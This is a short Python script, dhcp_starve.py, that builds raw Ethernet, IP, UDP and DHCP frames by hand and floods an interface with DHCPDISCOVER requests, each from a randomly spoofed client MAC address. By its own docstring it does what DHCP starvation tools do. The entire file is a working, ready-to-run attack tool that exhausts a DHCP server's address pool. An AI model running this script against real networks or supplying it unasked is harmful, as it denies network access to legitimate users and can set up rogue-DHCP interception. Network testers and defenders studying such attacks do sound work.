"""Send N DHCPDISCOVERs on IFACE, each from a different random client MAC (what DHCP starvation
tools do). Usage: dhcp_starve.py IFACE N"""
import os
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


iface, n = sys.argv[1], int(sys.argv[2])
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
for _ in range(n):
    mac = b"\x02" + os.urandom(5)
    bootp = (
        struct.pack("!BBBBIHH", 1, 1, 6, 0, int.from_bytes(os.urandom(4), "big"), 0, 0x8000)
        + b"\0" * 16  # ciaddr, yiaddr, siaddr, giaddr
        + mac + b"\0" * 10 + b"\0" * 192
        + b"\x63\x82\x53\x63"  # magic cookie
        + b"\x35\x01\x01"  # DHCPDISCOVER
        + b"\x3d\x07\x01" + mac  # client identifier
        + b"\xff"
    )
    udp_len = 8 + len(bootp)
    udp = struct.pack("!HHHH", 68, 67, udp_len, 0) + bootp
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, 0, 0, 64, 17, 0,
                     socket.inet_aton("0.0.0.0"), socket.inet_aton("255.255.255.255"))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    s.send(b"\xff" * 6 + mac + b"\x08\x00" + ip + udp)
    time.sleep(0.05)
